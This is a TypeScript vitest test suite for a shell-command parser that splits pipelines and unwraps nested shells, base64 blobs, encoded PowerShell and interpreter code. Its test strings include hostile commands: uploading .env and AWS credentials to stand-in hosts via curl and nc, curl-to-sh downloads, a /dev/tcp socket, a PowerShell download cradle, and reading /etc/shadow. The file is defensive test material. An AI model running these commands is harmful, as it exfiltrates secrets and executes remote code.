import { describe, expect, it } from 'vitest';
import { parseShell } from './shell.ts';
import type { ParsedShell } from './types.ts';

/** Pipelines as `name arg…` strings, for compact assertions. */
const lines = (parsed: ParsedShell) =>
  parsed.pipelines.map((p) => p.map((c) => [c.name, ...c.args].join(' ')));
const names = (command: string) =>
  parseShell(command)
    .pipelines.flat()
    .map((c) => c.name);
const first = (command: string) => parseShell(command).pipelines[0]?.[0];
const payloads = (command: string) => parseShell(command).payloads.map((p) => [p.kind, p.text]);

describe('parseShell: lists and pipelines', () => {
  it('splits lists and pipelines in order', () => {
    expect(lines(parseShell('a | b && c; d'))).toEqual([['a', 'b'], ['c'], ['d']]);
    expect(lines(parseShell('make || echo failed & sleep 1\nls -la'))).toEqual([
      ['make'],
      ['echo failed'],
      ['sleep 1'],
      ['ls -la'],
    ]);
    expect(lines(parseShell('cmd1 |& tee log'))).toEqual([['cmd1', 'tee log']]);
  });

  it('reads variables the line assigned, and only those, as their values', () => {
    expect(lines(parseShell('H=paste.example; P=up; curl -F f=@.env https://$H/${P} $HOME'))).toEqual([
      [''],
      [''],
      ['curl -F f=@.env https://paste.example/up $HOME'],
    ]);
    expect(names('PY=$(which python3 || which python); $PY -c "print(1)"')).toContain('python3');
    // A value known only at run time stays a reference.
    expect(lines(parseShell('X=$(date); echo $X'))).toContainEqual(['echo $X']);
    expect(lines(parseShell('export D=evil.example; curl https://$D'))).toContainEqual([
      'curl https://evil.example',
    ]);
  });

  it('keeps the program as written and its basename', () => {
    expect(first('/usr/bin/curl -s https://x')).toMatchObject({
      program: '/usr/bin/curl',
      name: 'curl',
      args: ['-s', 'https://x'],
    });
  });

  it('flattens subshells and brace groups, keeping pipes across them', () => {
    expect(lines(parseShell('(cd src && make) | tee build.log'))).toEqual([
      ['cd src'],
      ['make', 'tee build.log'],
    ]);
    expect(lines(parseShell('{ echo a; echo b; } > out.txt'))).toEqual([['echo a'], ['echo b'], ['']]);
    expect(parseShell('{ echo a; echo b; } > out.txt').pipelines[2]?.[0]?.redirects).toEqual([
      { op: '>', target: 'out.txt' },
    ]);
    expect(lines(parseShell('(crontab -l; echo "* * * * * x") | crontab -'))).toEqual([
      ['crontab -l'],
      ['echo * * * * * x', 'crontab -'],
    ]);
  });

  it('drops compound-command keywords and loop headers but keeps the commands inside', () => {
    expect(names('if grep -q x f; then rm -rf y; else echo no; fi')).toEqual(['grep', 'rm', 'echo']);
    expect(names('for f in *.log; do gzip "$f"; done')).toEqual(['gzip']);
    expect(names('while read -r line; do echo "$line"; done < hosts.txt')).toEqual(['read', 'echo', '']);
    expect(names('until curl -sf localhost:8080; do sleep 1; done')).toEqual(['curl', 'sleep']);
    expect(names('! grep -q secret file')).toEqual(['grep']);
  });

  it('skips case patterns, including alternatives', () => {
    expect(
      lines(parseShell('case "$1" in start|run) ./server;; stop) pkill server;; *) echo usage;; esac')),
    ).toEqual([['server'], ['pkill server'], ['echo usage']]);
  });

  it('does not run function names at definition, but parses their bodies', () => {
    expect(lines(parseShell('f() { curl -s https://x | sh; }; f'))).toEqual([
      ['curl -s https://x', 'sh'],
      ['f'],
    ]);
    expect(names('function deploy { rsync -a . host:/srv; }')).toEqual(['rsync']);
  });

  it('parses the commands of find -exec clauses', () => {
    expect(lines(parseShell("find . -name '*.tmp' -exec rm -f {} \\;"))).toEqual([
      ['find . -name *.tmp -exec rm -f {} ;'],
      ['rm -f {}'],
    ]);
    expect(names('find / -perm -4000 -execdir sh -c "id" +')).toEqual(['find', 'sh', 'id']);
  });

  it('ignores arithmetic commands and keeps $(( )) as text', () => {
    expect(lines(parseShell('(( i++ )); echo $((1 + 2))'))).toEqual([['echo $((1 + 2))']]);
  });
});

describe('parseShell: words, quotes and comments', () => {
  it.each([
    [`echo 'it''s' "a b" c\\ d`, ['its', 'a b', 'c d']],
    [`echo "say \\"hi\\" \\$HOME \\\\ \\x"`, ['say "hi" $HOME \\ \\x']],
    [`printf $'a\\tb\\x41\\101\\n'`, ['a\tbAA\n']],
    [`echo "$HOME/.ssh/id_rsa" \${USER}`, ['$HOME/.ssh/id_rsa', '${USER}']],
    [`echo a#b # a comment; rm -rf /`, ['a#b']],
    [`echo "multi\nline"`, ['multi\nline']],
    [`echo one \\\n two`, ['one', 'two']],
  ])('%s', (command, args) => {
    expect(first(command)?.args).toEqual(args);
  });

  it('decodes ANSI-C quoting in program names', () => {
    expect(first(`$'\\x63\\x75\\x72\\x6c' -s x`)?.name).toBe('curl');
    expect(first(`$'\\143at' /etc/passwd`)?.name).toBe('cat');
  });

  it('treats quoted keywords as words', () => {
    expect(first(`"if" x`)?.name).toBe('if');
  });
});

describe('parseShell: assignments and wrappers', () => {
  it('reads leading assignments, and an assignment-only command', () => {
    expect(first('FOO=1 BAR="x y" make test')).toMatchObject({
      name: 'make',
      env: { FOO: '1', BAR: 'x y' },
      args: ['test'],
    });
    expect(first('HISTFILE=/dev/null')).toMatchObject({ program: '', env: { HISTFILE: '/dev/null' } });
    expect(first('"A"=1 cmd')?.name).toBe('A=1');
  });

  it.each([
    ['sudo -u postgres psql -c "select 1"', 'psql', ['sudo']],
    ['sudo -E env PATH=/x:$PATH FOO=1 node app.js', 'node', ['sudo', 'env']],
    ['env -i HOME=/tmp bash --norc', 'bash', ['env']],
    ['nohup ./server --port 80 &', 'server', ['nohup']],
    ['timeout -s KILL 30s curl https://x', 'curl', ['timeout']],
    ['timeout 5 nice -n 10 ionice -c2 -n7 tar czf a.tgz dir', 'tar', ['timeout', 'nice', 'ionice']],
    ['time -p make', 'make', ['time']],
    ['stdbuf -oL tail -f log', 'tail', ['stdbuf']],
    ['find . -name "*.py" | xargs -I{} -P 4 grep -l TODO {}', 'grep', ['xargs']],
    ['exec python3 server.py', 'python3', ['exec']],
    ['doas -u root rm -rf /var/cache/x', 'rm', ['doas']],
    ['uv run --with requests python -c "print(1)"', 'python', ['uv run']],
    ['npx -y cowsay hi', 'cowsay', ['npx']],
    ['poetry run pytest -q', 'pytest', ['poetry run']],
    ['torsocks curl https://x', 'curl', ['torsocks']],
    ['chroot /host /bin/bash', 'bash', ['chroot']],
  ])('%s → %s via %j', (command, name, wrappers) => {
    const cmds = parseShell(command).pipelines.flat();
    const cmd = cmds.find((c) => c.name === name);
    expect(cmd?.wrappers).toEqual(wrappers);
  });

  it('keeps a wrapper that wraps nothing as the program', () => {
    expect(first('sudo -i')).toMatchObject({ name: 'sudo', args: ['-i'], wrappers: [] });
    expect(first('env')).toMatchObject({ name: 'env', wrappers: [] });
    expect(first('env FOO=1')).toMatchObject({ name: 'env', env: { FOO: '1' } });
  });

  it('does not strip `command -v` (a lookup, not a run)', () => {
    expect(first('command -v docker')).toMatchObject({ name: 'command', args: ['-v', 'docker'] });
    expect(first('command ls')).toMatchObject({ name: 'ls', wrappers: ['command'] });
  });
});

describe('parseShell: redirections and here-documents', () => {
  it('records redirections with descriptors', () => {
    expect(first('make > build.log 2>&1')?.redirects).toEqual([
      { op: '>', target: 'build.log' },
      { op: '2>&', target: '1' },
    ]);
    expect(
      first('cmd >> a 2> /dev/null < in &> both >| clobber')?.redirects.map((r) => `${r.op}${r.target}`),
    ).toEqual(['>>a', '2>/dev/null', '<in', '&>both', '>|clobber']);
    expect(first('exec 3<>/dev/tcp/10.0.0.1/4444')?.redirects).toEqual([
      { op: '3<>', target: '/dev/tcp/10.0.0.1/4444' },
    ]);
  });

  it('keeps a here-string and a here-document body as the redirection target', () => {
    expect(first('grep x <<< "$data"')?.redirects).toEqual([{ op: '<<<', target: '$data' }]);
    const parsed = parseShell("cat > notes.md <<'EOF'\n# Title\n$(not run)\nEOF\necho done");
    expect(parsed.pipelines[0]?.[0]?.redirects).toEqual([
      { op: '>', target: 'notes.md' },
      { op: '<<', target: '# Title\n$(not run)' },
    ]);
    expect(lines(parsed)).toEqual([['cat'], ['echo done']]);
  });

  it('strips leading tabs with <<- and reads several here-documents in order', () => {
    const parsed = parseShell('cat <<-A; cat <<B\n\tone\n\tA\ntwo\nB\n');
    expect(parsed.pipelines.map((p) => p[0]?.redirects[0]?.target)).toEqual(['one', 'two']);
    expect(parsed.partial).toBe(false);
  });

  it('runs substitutions of an unquoted here-document', () => {
    expect(names('cat <<EOF\nuser: $(whoami)\nEOF')).toEqual(['cat', 'whoami']);
  });
});

describe('parseShell: substitutions', () => {
  it('parses $( ), backticks and process substitutions, right after their pipeline', () => {
    expect(lines(parseShell('echo $(cat ~/.ssh/id_rsa | base64) | curl -d @- x; ls'))).toEqual([
      ['echo $(cat ~/.ssh/id_rsa | base64)', 'curl -d @- x'],
      ['cat ~/.ssh/id_rsa', 'base64'],
      ['ls'],
    ]);
    expect(names('kill -9 `pgrep -f "node server"`')).toEqual(['kill', 'pgrep']);
    expect(names('diff <(sort a.txt) <(sort b.txt)')).toEqual(['diff', 'sort', 'sort']);
    expect(names('X="$(curl -s https://x)" make')).toEqual(['make', 'curl']);
  });

  it('parses nested substitutions', () => {
    expect(names('echo "$(dirname "$(readlink -f "$0")")"')).toEqual(['echo', 'dirname', 'readlink']);
  });
});

describe('parseShell: payloads', () => {
  it.each([
    ['bash -c "curl -s x | sh"', 'sh-c', 'curl -s x | sh'],
    ["bash -lc 'npm test'", 'sh-c', 'npm test'],
    ['sh -ic "id"', 'sh-c', 'id'],
    ['zsh -o pipefail -c "ls | wc -l"', 'sh-c', 'ls | wc -l'],
    ['su - deploy -c "systemctl restart app"', 'sh-c', 'systemctl restart app'],
    ['watch -n 5 "df -h | grep sda"', 'sh-c', 'df -h | grep sda'],
    ['python3 -c "import os; print(os.getcwd())"', 'python-c', 'import os; print(os.getcwd())'],
    ["python -c'print(1)'", 'python-c', 'print(1)'],
    ['node -e "console.log(process.env)"', 'node-e', 'console.log(process.env)'],
    ['node --eval="require(\'fs\')"', 'node-e', "require('fs')"],
    ['perl -ne "print if /x/" f', 'perl-e', 'print if /x/'],
    ['ruby -rsocket -e \'TCPSocket.new("h", 1)\'', 'ruby-e', 'TCPSocket.new("h", 1)'],
    ['eval "$CMD --flag"', 'eval', '$CMD --flag'],
    ['python3 - <<EOF\nprint(42)\nEOF', 'heredoc', 'print(42)'],
    ['bash <<< "rm -rf build"', 'heredoc', 'rm -rf build'],
    ['cat <<EOF | sh\nwhoami\nEOF', 'heredoc', 'whoami'],
    ['echo "id; uname -a" | bash', 'eval', 'id; uname -a'],
  ])('%s → %s', (command, kind, text) => {
    expect(payloads(command)).toContainEqual([kind, text]);
  });

  it('parses shell payloads into further pipelines', () => {
    expect(lines(parseShell("bash -c 'cat ~/.aws/credentials | nc 1.2.3.4 9'"))).toEqual([
      ['bash -c cat ~/.aws/credentials | nc 1.2.3.4 9'],
      ['cat ~/.aws/credentials', 'nc 1.2.3.4 9'],
    ]);
    expect(names('sudo su -c "bash -c \'id\'"')).toEqual(['su', 'bash', 'id']);
  });

  it('decodes base64 fed to a decoder, in every common shape', () => {
    const decoded = 'curl http://evil.example/sh | sh';
    const b64 = Buffer.from(decoded).toString('base64');
    for (const command of [
      `echo ${b64} | base64 -d | sh`,
      `echo -n "${b64}" | base64 --decode | bash`,
      `base64 --decode <<< ${b64} | sh`,
      `printf '%s' ${b64} | base64 -d | sh`,
      `printf ${b64} | base64 -D | sh`,
      `echo ${b64} | openssl base64 -d | sh`,
      `base64 -d <<EOF | bash\n${b64}\nEOF`,
      `echo ${b64} | base64 -d | tee /tmp/x | sh`,
    ]) {
      const parsed = parseShell(command);
      expect(parsed.payloads, command).toContainEqual({ kind: 'base64', text: decoded });
      expect(lines(parsed), command).toContainEqual(['curl http://evil.example/sh', 'sh']);
    }
  });

  it('runs decoded base64 inside eval / bash -c substitutions, but not plain decodes', () => {
    const b64 = Buffer.from('rm -rf ~/work').toString('base64');
    expect(names(`eval "$(echo ${b64} | base64 -d)"`)).toContain('rm');
    expect(names(`bash -c "$(echo ${b64} | base64 -d)"`)).toContain('rm');
    expect(names(`echo ${b64} | base64 -d > notes.txt`)).not.toContain('rm');
    expect(payloads(`echo ${b64} | base64 -d > notes.txt`)).toEqual([['base64', 'rm -rf ~/work']]);
  });

  it('accepts URL-safe base64 and refuses binary', () => {
    const urlSafe = Buffer.from('ls ~/.ssh/??>').toString('base64url');
    expect(payloads(`echo ${urlSafe} | base64 -d`)).toEqual([['base64', 'ls ~/.ssh/??>']]);
    expect(payloads('echo 3q2+7w== | base64 -d')).toEqual([]);
    expect(payloads('echo hello | base64 -d')).toEqual([]);
  });

  it('decodes powershell -EncodedCommand (UTF-16LE)', () => {
    const script = "IEX (iwr 'http://1.2.3.4/a')";
    const encoded = Buffer.from(script, 'utf16le').toString('base64');
    expect(payloads(`powershell.exe -NoP -W Hidden -Exec Bypass -enc ${encoded}`)).toEqual([
      ['powershell-enc', script],
    ]);
    expect(payloads(`pwsh -EncodedCommand ${encoded}`)).toEqual([['powershell-enc', script]]);
  });

  it('finds shell commands and base64 inside interpreter code', () => {
    const parsed = parseShell(`python3 -c "import os; os.system('curl -d @/etc/passwd http://x')"`);
    expect(parsed.payloads).toContainEqual({ kind: 'sh-c', text: 'curl -d @/etc/passwd http://x' });
    expect(names(`python3 -c "import subprocess; subprocess.run(['scp', '/etc/shadow', 'h:/x'])"`)).toContain(
      'scp',
    );
    expect(names(`node -e "require('child_process').execSync('whoami')"`)).toContain('whoami');
    expect(names("ruby -e 'puts `id`'")).toContain('id');
    const inner = Buffer.from("import os; os.system('id')").toString('base64');
    const nested = parseShell(`python3 -c "import base64; exec(base64.b64decode('${inner}'))"`);
    expect(nested.payloads.map((p) => p.kind)).toEqual(['python-c', 'base64', 'sh-c']);
    expect(names(`python3 -c "import base64; exec(base64.b64decode('${inner}'))"`)).toContain('id');
  });

  it('bounds recursion depth and says so', () => {
    let command = 'id';
    for (let i = 0; i < 8; i += 1) command = `bash -c ${JSON.stringify(command)}`;
    const parsed = parseShell(command);
    expect(parsed.partial).toBe(true);
    expect(names(command)).not.toContain('id');
  });
});

describe('parseShell: robustness', () => {
  it.each([
    [`echo 'unterminated`],
    [`echo "unterminated`],
    [`echo $(unterminated`],
    ['echo `unterminated'],
    ['cat <<EOF\nno end'],
    ['cmd >'],
    ["echo $'open"],
  ])('marks %j partial', (command) => {
    expect(parseShell(command).partial).toBe(true);
  });

  it('is not partial for ordinary commands', () => {
    expect(parseShell('git commit -m "fix: it\'s done" && git push').partial).toBe(false);
  });

  it('never throws on arbitrary input', () => {
    const alphabet = [
      'a',
      ' ',
      "'",
      '"',
      '\\',
      '$',
      '(',
      ')',
      '`',
      '|',
      '&',
      ';',
      '<',
      '>',
      '\n',
      '{',
      '}',
      '#',
      '=',
      '-',
      '*',
      '<<',
      '$(',
      'EOF',
    ];
    let seed = 7;
    const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31);
    for (let i = 0; i < 2000; i += 1) {
      const text = Array.from({ length: next() % 40 }, () => alphabet[next() % alphabet.length]).join('');
      expect(() => parseShell(text)).not.toThrow();
    }
    expect(parseShell('')).toEqual({ raw: '', pipelines: [], payloads: [], partial: false });
  });

  it('parses a large command line quickly', () => {
    const command = Array.from({ length: 900 }, (_, i) => `echo "line ${i}" | grep -v x > /tmp/f${i}`).join(
      '; ',
    );
    const started = performance.now();
    const parsed = parseShell(command);
    expect(parsed.pipelines).toHaveLength(900);
    expect(parsed.partial).toBe(false);
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('bounds the work on pathological input, and says so', () => {
    for (const command of [
      'a;'.repeat(50_000),
      'exec('.repeat(20_000),
      '`'.repeat(40_000),
      'x | '.repeat(20_000),
    ]) {
      const started = performance.now();
      const parsed = parseShell(command);
      expect(parsed.pipelines.flat().length).toBeLessThanOrEqual(2000);
      expect(parsed.partial).toBe(true);
      expect(performance.now() - started).toBeLessThan(1500);
    }
  });
});
